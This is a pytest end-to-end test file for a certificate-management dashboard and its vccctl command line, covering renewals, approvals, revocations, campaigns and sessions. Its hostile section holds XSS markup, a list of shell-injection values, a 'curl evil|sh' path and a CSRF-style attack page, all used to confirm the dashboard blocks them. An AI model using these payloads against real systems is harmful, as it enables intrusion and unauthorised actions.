"""What people do with the dashboard, by clicks: renew, approve with a fresh proof, halt, log out; what it offers to whom; and whether a hostile page or a
hostile name can do anything."""
import http.server
import json
import os
import shlex
import ssl
import subprocess
import threading
import urllib.parse

import dashboard
import pytest
from conftest import new_folder
from installation import free_port, wait_for

LIFE = dashboard.LIFE
MARKUP = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"


@pytest.fixture(scope="module")
def site():
    with dashboard.estate(new_folder("acts")) as both:
        yield both


@pytest.fixture(scope="module")
def admin(site):
    e, d = site
    return d.page(e.tokens["admin"])


# ---- what people do ----

def test_a_renewal_from_click_to_proof(site, admin):
    e, d = site
    before = e.inst.certificate(e.own.cert_id)["serial"]
    d.go(admin, f"#/certificates/{e.own.cert_id}")
    admin.sees(before)
    admin.click("main .head button.first", "Renew")
    admin.click("dialog input[name=force]")
    admin.write("dialog input[name=comment]", "by a click")
    assert dashboard.shell(admin) == (["vccctl", "cert", "renew", e.own.cert_id, "--force", "--reason", "by a click"], {"force": True, "now": False, "comment": "by a click"})
    admin.click("dialog button.first", "Renew")
    admin.until("!document.querySelector('dialog')", "it was ordered")
    after = wait_for("it is renewed", lambda: (s := e.inst.certificate(e.own.cert_id)["serial"]) != before and s)
    admin.sees(after)
    admin.until("document.querySelector('.steps') && document.body.innerText.includes('Prove by handshakes')", "its steps are shown, without a reload")
    assert any(r["reason"] == "by a click" for r in e.admin.get(f"audit?object={e.own.cert_id}&limit=50")["items"])
    d.clean(admin)


def test_a_refusal_is_shown_as_it_is(site, admin):
    e, d = site
    d.go(admin, f"#/certificates/{e.own.cert_id}")
    wait_for("no order is open", lambda: not e.inst.certificate(e.own.cert_id)["open_order"])
    admin.click("main .head button.first", "Renew")
    admin.click("dialog button.first", "Renew")
    admin.until("document.querySelector('dialog .problem') && /VCC-3\\d\\d\\d/.test(document.querySelector('dialog .problem').innerText)", "not due, with its code")
    assert admin.run("document.querySelector('dialog .problem a').getAttribute('href')").startswith("#/explain/VCC-")
    admin.click("dialog button", "Cancel")
    d.clean(admin, also=("409",))


def test_an_approval_with_its_proof(site):
    """The approver decides, is asked who it is, and the decision goes through; the requester is offered nothing."""
    e, d = site
    page = d.page(e.tokens["approver"])
    waiting = e.admin("POST", "/api/v1/principals", {"name": "second", "roles": ["approver"], "person": "eva"})[1]
    d.go(page, f"#/approvals/{waiting['approval_id']}")
    page.sees(waiting["approval"]["hash"])
    page.click("main .head button.danger", "Reject")
    page.write("dialog input[name=comment]", "nobody knows her")
    request, shown = waiting["approval_id"], waiting["approval"]["hash"]
    assert dashboard.shell(page) == (["vccctl", "approval", "reject", request, "--hash", shown, "--comment", "nobody knows her"], {"hash": shown, "comment": "nobody knows her"})
    page.size(400, 800)
    page.until("innerWidth === 400 && document.documentElement.scrollWidth <= 400 && document.querySelector('dialog').scrollWidth <= 400", "also in a narrow window")
    page.size(1280, 900)
    page.click("dialog button.danger", "Reject")
    page.sees("Please prove who you are")
    page.write("dialog input[name=token]", e.tokens["approver"])
    page.click("dialog button.first", "Confirm")
    page.until("document.querySelector('main .head .state') && document.querySelector('main .head .state').innerText.includes('rejected')", "it is rejected")
    assert e.approver.get(f"approvals/{waiting['approval_id']}")["comment"] == "nobody knows her"
    d.clean(page, also=("403",))


def people(page):
    """{name: what its row shows}"""
    return page.run("Object.fromEntries([...document.querySelectorAll('.people .scroll .line')].map((r) => [r.querySelector('b').innerText, r.innerText]))")


@pytest.mark.parametrize("language, change, save, prove, confirm, own, role", [
    ("en", "Change", "Save", "Please prove who you are", "Confirm", "this is you", "auditor"),
    ("de", "Ändern", "Speichern", "Bitte bestätigen, wer Sie sind", "Bestätigen", "das sind Sie", "Prüfer")])
def test_a_mail_address_by_clicks(site, language, change, save, prove, confirm, own, role):
    """Given, refused where it is none, changed and taken away; each only by who proves who he is, and nobody's own."""
    e, d = site
    name, first = f"mia-{language}", f"mia@{language}.vcc.internal"
    e.principal(name, ["auditor"])
    button = f"main .people button[aria-label*='{name}']"
    page = d.page(e.tokens["admin"], language)
    d.go(page, "#/principals")
    page.until(f"Boolean(document.querySelector({json.dumps(button)}))")
    shown = people(page)
    assert role in shown[name] and own in shown["admin"] and own not in shown[name] and change not in shown["admin"]
    assert page.run("document.querySelectorAll(\"main .people button[aria-label*=' admin']\").length") == 0
    page.click(button, change)
    page.write("dialog input[name=mail]", first)
    assert dashboard.shell(page) == (["vccctl", "principal", "set-role", name, "--mail", first], {"mail": first})
    page.click("dialog button.first", save)
    page.sees(prove)
    assert e.admin.get(f"principals/{name}")["mail"] is None, "nothing is done before that"
    page.write("dialog input[name=token]", e.tokens["admin"])
    page.click("dialog button.first", confirm)
    page.until(f"!document.querySelector('dialog') && document.querySelector('.people').innerText.includes({json.dumps(first)})", "it is shown")
    assert e.admin.get(f"principals/{name}")["mail"] == first

    page.click(button, change)
    page.until(f"document.querySelector('dialog input[name=mail]').value === {json.dumps(first)}")
    page.write("dialog input[name=mail]", "mia@vcc.internal, eve@vcc.internal")
    page.click("dialog button.first", save)
    page.until("document.querySelector('dialog .problem') && document.querySelector('dialog .problem').innerText.includes('VCC-3104')", "two are none")
    assert e.admin.get(f"principals/{name}")["mail"] == first
    page.write("dialog input[name=mail]", " ")
    assert dashboard.shell(page) == (["vccctl", "principal", "set-role", name, "--mail", "none"], {"mail": None})
    page.size(400, 800)
    page.until("innerWidth === 400 && document.documentElement.scrollWidth <= 400 && document.querySelector('dialog').scrollWidth <= 400", "also in a narrow window")
    page.click("dialog button.first", save)
    page.until(f"!document.querySelector('dialog') && !document.querySelector('.people').innerText.includes({json.dumps(first)})", "it is gone")
    assert e.admin.get(f"principals/{name}")["mail"] is None
    found = dashboard.axe(page)
    assert not found, found
    d.clean(page, also=("403", "422"))


def test_a_shell_is_given_the_same_address(site, admin):
    """What stands there for a shell does it, too; and another one's change is seen without a reload."""
    e, d = site
    e.principal("noah", ["viewer"])
    d.go(admin, "#/principals")
    admin.click("main .people button[aria-label*='noah']")
    admin.write("dialog input[name=mail]", "o'noah@vcc.internal")
    words, body = dashboard.shell(admin)
    admin.press("Escape")
    e.inst.vccctl(*words[1:])
    assert body == {"mail": "o'noah@vcc.internal"} and e.admin.get("principals/noah")["mail"] == body["mail"]
    admin.until("document.querySelector('.people').innerText.includes(\"o'noah@vcc.internal\")", "the view has it")
    d.clean(admin)


def test_what_is_typed_into_a_filter_stays(site, admin):
    """While records come below it; another address empties it."""
    e, d = site
    d.go(admin, "#/audit")
    admin.until("document.querySelectorAll('.trail li').length > 3")
    admin.write("main input[name=object]", "of-a-browser")
    top = admin.run("document.querySelector('.trail li').innerText")
    assert e.admin("POST", "/api/v1/tokens", {"ttl": "1h", "label": "typed"})[0] in (200, 201)
    admin.until(f"document.querySelector('.trail li').innerText !== {json.dumps(top)}", "a record has come")
    assert admin.run("document.querySelector('main input[name=object]').value") == "of-a-browser"
    admin.click("main .filters button", "Show")
    admin.until("location.hash.includes('object=of-a-browser')")
    d.go(admin, "#/audit")
    admin.until("document.querySelector('main input[name=object]').value === ''")
    d.clean(admin)


def test_a_record_leads_to_what_it_is_about(site, admin):
    """A serial number is given out for a certificate, or for a host: there is no certificate of a host's name."""
    e, d = site
    for name, linked in ((e.own.name, False), (e.own.cert_id, True)):
        d.go(admin, f"#/audit?event=certificate_intent&object={name}")
        admin.until(f"(() => {{ const all = [...document.querySelectorAll('.trail li .row b + *')]; return all.length > 0 && all.every((o) => o.innerText === '{name}'); }})()", name)
        assert admin.run("[...document.querySelectorAll('.trail li .row b + *')].map((o) => o.matches('a'))").count(linked) == admin.run("document.querySelectorAll('.trail li').length"), name
    d.clean(admin)


def test_what_ends_a_certificate_is_given_to_a_shell(site, admin):
    """By the words of vccctl, and as what curl sends; nothing is done by looking at it, and what was suspended there is so here."""
    e, d = site
    cert_id = e.foreign.cert_id
    d.go(admin, f"#/certificates/{cert_id}")
    admin.click("main .head button.danger", "Revoke")
    admin.click("dialog input[name=replace]")
    dashboard.choose(admin, "reason", "superseded")
    assert dashboard.shell(admin) == (["vccctl", "cert", "revoke", cert_id, "--reason", "superseded", "--replace"], {"reason": "superseded", "replace": True, "confirm": False})
    admin.press("Escape")
    for button, verb in (("Suspend", "suspend"), ("Resume", "resume")):
        admin.click("main .head button", button)
        words, body = dashboard.shell(admin)
        assert (words, body) == (["vccctl", "cert", verb, cert_id], {})
        admin.press("Escape")
        e.inst.vccctl(*words[1:])
    admin.until("[...document.querySelectorAll('main .head button')].some((b) => b.innerText === 'Suspend')", "it is in force again")
    d.clean(admin)


def test_a_campaign_is_halted_and_cancelled(site):
    e, d = site
    page = d.page(e.tokens["admin"])
    for host in (e.own, e.foreign):
        host.processes["agent"].stop()  # nothing of it can end
    try:
        campaign = e.admin("POST", LIFE + "/bulk-renewal", {})[1]["campaign_id"]
        d.go(page, f"#/campaigns/{campaign}")
        page.until("document.querySelectorAll('.square[href]').length >= 2", "a square for each")
        page.click("main .head button", "Halt")
        page.write("dialog input[name=comment]", "an emergency took its place")
        page.click("dialog button.danger", "Halt")
        page.until("document.querySelector('main .head .state').innerText.includes('halted')", "it is halted")
        german = d.page(e.tokens["admin"], "de")
        d.go(german, f"#/campaigns/{campaign}")
        german.sees("▲ an emergency took its place")  # the controller says this, too, and in German: here a person did
        d.clean(german)
        page.click("main .head button", "Cancel campaign")
        page.click("dialog button.danger", "Cancel campaign")
        wait_for("it is cancelled", lambda: e.admin.get(f"campaigns/{campaign}")["status"] == "cancelled")
    finally:
        for host in (e.own, e.foreign):
            host.processes["agent"].start()
    page.until("document.querySelector('main .head .state').innerText.includes('cancelled')", "it is cancelled, and the page says so")
    d.clean(page)


def test_a_word_to_an_emergency_is_asked_for_its_proof(site):
    """A bulk renewal that is an emergency: the route asks for less, the page asks who it is all the same, and then shows what became of it."""
    e, d = site
    wait_for("no order is open", lambda: not any(c["open_order"] for c in e.admin.get("certificates")["items"]))
    page = d.page(e.tokens["admin"])
    e.own.processes["agent"].stop()  # nothing of it can end
    try:
        campaign = e.admin("POST", LIFE + "/bulk-renewal", {"service_pattern": f"{e.own.cert_id}.clara.vcc.internal", "trigger": "emergency"})[1]["campaign_id"]
        order = wait_for("it is ordered", lambda: e.inst.certificate(e.own.cert_id)["open_order"])
        d.go(page, f"#/campaigns/{campaign}")
        page.click("main .head button", "Halt")
        page.click("dialog button.danger", "Halt")
        page.sees("Please prove who you are")
        page.write("dialog input[name=token]", e.tokens["admin"])
        page.click("dialog button.first", "Confirm")
        page.until("document.querySelector('dialog .problem') && document.querySelector('dialog .problem').innerText.includes('VCC-3603')", "all of it was sent")
        page.click("dialog button", "Cancel")
        assert e.admin("POST", f"/api/v1/renewals/{order}/cancel", {})[0] == 200
    finally:
        e.own.processes["agent"].start()
    wait_for("it is over", lambda: e.admin.get(f"campaigns/{campaign}")["completed_at"])
    d.clean(page, also=("403", "409"))


def test_an_emergency_from_its_plan_to_its_end(site):
    """Incident, plan, a fresh proof, exactly this plan; the campaign is shown as it goes, the new certificates are served, and an approver confirms it."""
    e, d = site
    wait_for("no order is open", lambda: not any(c["open_order"] for c in e.admin.get("certificates")["items"]))
    before = e.inst.certificate(e.own.cert_id)["serial"]
    page = d.page(e.tokens["admin"])
    d.go(page, "#/campaigns")
    page.click("main .head button.danger")
    page.write("dialog input[name=incident]", "INC-7")
    page.write("dialog input[name=why]", "an exercise of the tests")
    page.run("(() => { const s = document.querySelector('dialog select[name=type]'); s.value = 'exercise'; })()")
    page.until("[...document.querySelectorAll('dialog select[name=which] option')].some((o) => o.value === 'clara')", "the services are offered")
    page.run("document.querySelector('dialog select[name=which]').value = 'clara'")
    page.click("dialog button.first", "Show the plan")
    page.sees("Please prove who you are")
    page.write("dialog input[name=token]", e.tokens["admin"])
    page.click("dialog button.first", "Confirm")
    page.until(f"document.querySelector('dialog .card') && document.querySelector('dialog .card').innerText.includes({json.dumps(e.own.cert_id)})", "the plan names the certificate")
    assert e.foreign.cert_id not in page.run("document.querySelector('dialog .card').innerText")
    assert e.inst.certificate(e.own.cert_id)["serial"] == before, "nothing was done yet"
    page.click("dialog button.danger", "Begin now")
    page.until("location.hash.startsWith('#/campaigns/')", "its campaign is shown")
    page.until("document.getElementById('said').textContent === 'The emergency has begun'")
    campaign = page.run("location.hash").rsplit("/", 1)[1]
    shown = e.admin.get(f"campaigns/{campaign}")
    assert (shown["kind"], shown["incident_id"], shown["selector"]) == ("emergency", "INC-7", "service clara")
    wait_for("it is over", lambda: e.admin.get(f"campaigns/{campaign}")["completed_at"])
    page.until("document.querySelector('main .head .state') && document.querySelector('main .head .state').innerText.includes('completed')", "and the page says so")
    assert e.inst.certificate(e.own.cert_id)["serial"] != before
    page.until("document.querySelectorAll('.square.ok').length >= 1")
    found = dashboard.axe(page)
    assert not found, found
    d.clean(page, also=("403",))


def test_a_session_that_ends_shows_the_login(site):
    e, d = site
    made = e.admin("POST", "/api/v1/tokens", {"ttl": "1h", "label": "of a browser"})[1]
    page = d.page(made["token"])
    e.admin("POST", f"/api/v1/tokens/{made['token_id']}/revoke")
    page.run("location.hash = '#/certificates'")
    page.sees("The session is over")
    d.clean(page, also=("401",))
    page = d.page(e.tokens["admin"])
    page.click("button", "Log out")
    page.sees("You are logged out")
    page.ask("Page.reload")
    page.sees("Access token")


def test_a_viewer_is_offered_what_it_may(site):
    e, d = site
    page = d.page(e.principal("looker", ["viewer"], ["clara"]))
    areas = page.run("[...document.querySelectorAll('nav.side a')].map((a) => a.hash)")
    assert "#/audit" not in areas and "#/approvals" not in areas and "#/principals" not in areas and "#/certificates" in areas
    d.go(page, "#/certificates")
    page.until("document.querySelectorAll('.certs .scroll .line').length >= 1")
    assert e.foreign.cert_id not in page.text()
    d.go(page, f"#/certificates/{e.own.cert_id}")
    dashboard.settle(page)
    assert page.run("document.querySelectorAll('main .head button').length") == 0
    d.clean(page)


# ---- hostile ----

def test_markup_in_a_name_is_text(site, admin):
    """What people may write, they may write as markup: reasons, labels, the name of a principal's person, what is typed into the search. (T16, T17)"""
    e, d = site
    status, body = e.admin("POST", f"{LIFE}/renew/{e.foreign.cert_id}", {"force": True, "comment": MARKUP})
    assert status == 202, body
    wait_for("it is over", lambda: e.admin.get(f"renewals/{body['renewal_id']}")["status"] == "completed")
    d.go(admin, "#/audit")
    admin.sees("<img src=x onerror=")
    admin.run("location.hash = '#/certificates?q=' + encodeURIComponent(\"<img src=x onerror=document.title='owned'>\")")
    admin.until("document.getElementById('search').value.startsWith('<img')")
    for path in ("#/certificates/%3Cimg%20src%3Dx%3E", "#/explain/%3Cscript%3E", "#/__proto__/x", "#/constructor", "#/%ff"):
        admin.run(f"location.hash = {path!r}")
        admin.until("Boolean(document.querySelector('main#main h1'))")
    assert "owned" not in admin.run("document.title") and admin.run("document.querySelectorAll('main img, main script').length") == 0
    d.clean(admin, also=("404", "422"))


HOSTILE_WORDS = ["x;touch owned", "x'; touch owned; '", "$(touch owned)", "`touch owned`", "a b", "'", "''\\''", "x|touch owned", "x&touch owned", "*", "~", "x\\", "#", "ü>owned"]


def test_a_link_of_somebody_else_is_no_command(site, admin, tmp_path):
    """What stands in an address is one word of the command that is copied, for whatever shell; and what is nothing of ours has no command at all. (T16)"""
    e, d = site
    admin.run("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    for view, before, name in (("audit", ["audit", "list", "--object"], "object"), ("certificates", ["cert", "list", "--service"], "service")):
        for word in HOSTILE_WORDS:
            address = f"#/{view}?{urllib.parse.urlencode({name: word})}"
            admin.run(f"(() => {{ window.copied = null; location.hash = {json.dumps(address)}; }})()")
            shown = wait_for(address, lambda: (text := admin.run("(document.querySelector('.foot code') || {}).textContent")) and shlex.split(text)[-2:] == [before[-1], word] and text, 60, 0.05)
            assert dashboard.copied(admin, "vccctl") == shown
            heard = subprocess.run(["sh", "-c", "vccctl() { printf '%s\\n' \"$@\"; }\n" + shown], cwd=tmp_path, capture_output=True, text=True, timeout=60)
            assert (heard.returncode, heard.stdout.split("\n")[:-1], heard.stderr) == (0, [*before, word], ""), (address, shown)
            admin.run("window.copied = null")
            line = dashboard.copied(admin, "curl")
            assert line.count("'") == 2 and line.endswith("'"), line
    assert not os.listdir(tmp_path)
    for path in ("explain/x;curl%20evil|sh", "certificates/x;id", "campaigns/x;id", "agents/x;id", "services/x;id", "templates/x;id", "approvals/x;id", "renewals/x;id",
                 "certificates/x%27%3bid"):
        d.go(admin, "#/overview")
        admin.run(f"location.hash = {json.dumps('#/' + path)}")
        admin.until("document.querySelector('main .problem') && !document.querySelector('.foot')", path)
    for path in ("audit?object=x%03id", "audit?object=x%0aid", "audit?object=x%1b%5b201~id", "certificates?service=x%e2%80%aeid"):
        d.go(admin, "#/overview")
        admin.run(f"location.hash = {json.dumps('#/' + path)}")
        admin.until("document.querySelector('main .filters') && !document.querySelector('.foot')", path)
    d.clean(admin, also=("400", "404", "422", "403"))


class Hostile(http.server.BaseHTTPRequestHandler):
    page = b""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_):
        pass


# Everything that a page may try without being asked, on the server where somebody is logged in.
ATTACK = """<!doctype html><title>waiting</title><body><iframe name=f></iframe><script>
const to = TARGET, renew = to + RENEW, said = [];
const add = (name, p) => p.then((r) => said.push(name + ' ' + r.type + ' ' + r.status), (e) => said.push(name + ' ' + e.name));
const form = (type, body) => { const f = document.createElement('form'); f.method = 'POST'; f.action = renew; f.enctype = type; f.target = 'f';
  const i = document.createElement('input'); i.name = body; i.value = ''; f.append(i); document.body.append(f); f.submit(); };
const frame = document.createElement('iframe'); frame.src = to + '/'; document.body.append(frame);
const image = new Image(); image.src = to + '/api/v1/certificates'; document.body.append(image);
const script = document.createElement('script'); script.src = to + '/api/v1/session'; document.body.append(script);
(async () => {
  for (const mode of ['no-cors', 'cors']) for (const body of ['{"force":true}', new Blob(['{"force":true}'])])
    await add(mode, fetch(renew, {method: 'POST', mode, credentials: 'include', body}));
  await add('json', fetch(renew, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Vcc-Session': 'x'}, body: '{}'}));
  await add('read', fetch(to + '/api/v1/session', {credentials: 'include'}));
  await add('login', fetch(to + '/api/v1/session', {method: 'POST', mode: 'no-cors', credentials: 'include'}));
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) { form(type, '{"force":true,"x":"'); await new Promise((r) => setTimeout(r, 300)); }
  navigator.sendBeacon(renew, '{"force":true}');
  const events = new EventSource(to + '/api/v1/events', {withCredentials: true});
  events.onopen = () => said.push('events open'); events.onerror = () => said.push('events error');
  try { new WebSocket(to.replace('https', 'wss') + '/api/v1/events'); } catch {}
  await new Promise((r) => setTimeout(r, 1000));
  window.said = said; document.title = 'done';
})();
</script>"""


def test_a_hostile_page_can_do_nothing(site):
    """On another port of the same host, where even a strict cookie is sent along, while an administrator is logged in in the same browser. (T16)"""
    e, d = site
    wait_for("no order is open", lambda: not e.inst.certificate(e.own.cert_id)["open_order"])
    port = free_port()
    Hostile.page = ATTACK.replace("TARGET", json.dumps(d.url)).replace("RENEW", json.dumps(f"{LIFE}/renew/{e.own.cert_id}")).encode()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Hostile)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(os.path.join(e.folder, "hostile.pem"), os.path.join(e.folder, "hostile.pem.key"))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        victim = d.page(e.tokens["admin"], stranger=False)
        serial, seq = e.inst.certificate(e.own.cert_id)["serial"], e.admin.get("audit?limit=1")["items"][0]["seq"]
        page = d.browser.page()
        page.open(f"https://127.0.0.1:{port}/")
        page.until("document.title === 'done'", "it has tried everything")
        said = page.run("window.said")
        assert not any(" basic " in s or " cors " in s or s == "events open" for s in said), said
        assert any("POST" == m and "/renew/" in u for m, u in page.asked) and len(said) >= 7, "it did try"
        trail = [r for r in e.admin.get("audit?limit=100")["items"] if r["seq"] > seq and r["object"] in (e.own.cert_id, "admin")]
        assert not trail and e.inst.certificate(e.own.cert_id)["serial"] == serial
        d.go(victim, "#/overview")
        assert victim.run("fetch('/api/v1/whoami').then((r) => r.status)") == 200, "who is logged in is so still"
        d.clean(victim)
    finally:
        server.shutdown()
        thread.join(20)
        server.server_close()
